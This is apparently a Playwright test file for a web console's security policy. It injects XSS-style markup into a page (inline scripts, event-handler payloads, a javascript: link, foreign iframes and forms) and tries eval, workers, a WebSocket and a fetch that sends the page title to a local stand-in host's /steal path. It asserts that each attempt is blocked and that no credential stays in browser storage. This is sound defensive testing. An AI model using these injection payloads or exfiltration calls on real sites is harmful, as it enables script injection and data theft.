import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { zhCn as identity } from '../src/app/identity/i18n/zh-cn.js';
import { PAGES, SETTINGS_PAGES } from '../src/app/shell/pages.js';
import { expect, PASSWORD, signIn, test } from './support/console.js';

/** What somebody may have got into a page of ours, in front of everything the page itself holds. */
const injected = (foreign: string): string => `
  <script>window.oaRan.push('inline script')</script>
  <script src="${foreign}/script.js"></script>
  <script type="module" src="${foreign}/module.js"></script>
  <img src="data:," onerror="window.oaRan.push('inline handler')">
  <svg onload="window.oaRan.push('handler of an image')"></svg>
  <iframe src="${foreign}/frame"></iframe>
  <iframe srcdoc="&lt;script&gt;parent.oaRan.push('frame')&lt;/script&gt;"></iframe>
  <object data="${foreign}/object"></object>
  <link rel="stylesheet" href="${foreign}/style.css">
  <img src="${foreign}/image.png">
  <a id="oa-script-link" href="javascript:window.oaRan.push('address')">link</a>
  <form id="oa-foreign-form" method="post" action="${foreign}/form"><input name="a"></form>`;

interface Injected {
  oaRan: string[];
  oaRefused: string[];
}

/** Another site; what it is asked for is noted. */
async function startForeign(): Promise<{ url: string; asked: string[]; server: Server }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end("window.oaRan.push('foreign script')");
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
}

/** Tries what a script that got in would. @returns what came of each */
async function tryFromInside(foreign: string): Promise<Record<string, string>> {
  // The debugger's own call may do what the page may not: the page goes on by itself.
  await new Promise((resolve) => setTimeout(resolve));
  // By their names, since lint refuses them as well.
  const [evaluate, compile] = ['eval', 'Function'].map(
    (name) => Reflect.get(window, name) as (code: string) => unknown,
  );
  const attempts: Record<string, () => unknown> = {
    eval: () => evaluate('window.oaRan.push("eval")'),
    function: () => compile('window.oaRan.push("function")'),
    markup: () => (document.body.innerHTML = '<b>markup</b>'),
    scriptText: () => (document.createElement('script').text = 'window.oaRan.push("text")'),
    scriptAddress: () => (document.createElement('script').src = `${foreign}/late.js`),
    worker: () => new Worker(`${foreign}/worker.js`),
  };
  const called = Object.entries(attempts).map(([name, attempt]): [string, string] => {
    try {
      return [name, `done: ${String(attempt())}`];
    } catch {
      return [name, 'refused'];
    }
  });
  const asked = fetch(`${foreign}/steal?${document.title}`, { mode: 'no-cors' }).then(
    () => 'done',
    () => 'refused',
  );
  const beacon = new Promise<string>((resolve) => {
    const socket = new WebSocket(foreign.replace('http', 'ws'));
    socket.onopen = () => resolve('done');
    socket.onerror = () => resolve('refused');
  });
  return { ...Object.fromEntries(called), fetched: await asked, socket: await beacon };
}

test('what gets into a page runs nothing, loads nothing and sends nothing', async ({ page, product }) => {
  const foreign = await startForeign();
  await signIn(page, product);
  await page.addInitScript(() => {
    const own = window as unknown as Injected;
    own.oaRan = [];
    own.oaRefused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      own.oaRefused.push(effectiveDirective),
    );
  });
  await page.route(/\/settings\/profile$/, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace(/<body[^>]*>/, (tag) => tag + injected(foreign.url));
    await route.fulfill({ response, body });
  });
  await page.goto(`${product.url}/settings/profile`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const address = page.url();
  await page.evaluate(() => {
    document.querySelector<HTMLElement>('#oa-script-link')?.click();
    document.querySelector<HTMLFormElement>('#oa-foreign-form')?.submit();
  });
  const tried = await page.evaluate(tryFromInside, foreign.url);
  for (const [attempt, end] of Object.entries(tried)) expect([attempt, end]).toEqual([attempt, 'refused']);

  const seen = async () => new Set(await page.evaluate(() => (window as unknown as Injected).oaRefused));
  for (const directive of [
    ...['script-src-elem', 'script-src-attr', 'style-src-elem', 'img-src', 'frame-src', 'object-src'],
    ...['form-action', 'connect-src', 'require-trusted-types-for'],
  ])
    await expect(async () => expect([...(await seen())]).toContain(directive)).toPass({ timeout: 5_000 });
  expect(await page.evaluate(() => (window as unknown as Injected).oaRan)).toEqual([]);
  expect(page.url()).toBe(address);
  expect(foreign.asked).toEqual([]);
  // Browsers open connections ahead, and keep them.
  foreign.server.closeAllConnections();
  foreign.server.close();
});

/** Everything a browser keeps for us, the cookie aside, which no script may see. */
function keptIn(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const databases = (await indexedDB.databases()).map(({ name }) => name);
    const stores = [{ ...localStorage }, { ...sessionStorage }, databases, await caches.keys()];
    return JSON.stringify([...stores, document.cookie, window.name, history.state]);
  });
}

test('a journey over all pages leaves no credential in the browser', async ({ console: page, product }) => {
  const session = { llm_config_id: await product.model('sim-text') };
  const { session_id } = await product.call<{ session_id: string }>('/api/sessions', { method: 'POST', body: session });
  const typed = 'canary-of-the-browser-0001';
  await page.goto(`${product.url}/configs/new?preset=openai`);
  await page.getByLabel('API 密钥', { exact: true }).fill(`sk-${typed}`);
  await page.goto(`${product.url}/settings/profile`);
  await page.getByLabel(identity.password.current).fill(typed);
  await page.getByLabel(identity.password.new).fill(typed);
  const paths = [...PAGES, ...SETTINGS_PAGES].map(({ path }) => path);
  for (const path of [...paths, `/configs/${session.llm_config_id}`, `/sessions/${session_id}`]) {
    await page.goto(product.url + path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    expect(await keptIn(page)).not.toMatch(/canary|sk-|sim-key|app-|ops-|opsagent=/i);
  }
  const kept = await keptIn(page);
  expect(kept).toContain('oa.');
  expect(kept).not.toContain(PASSWORD);
});
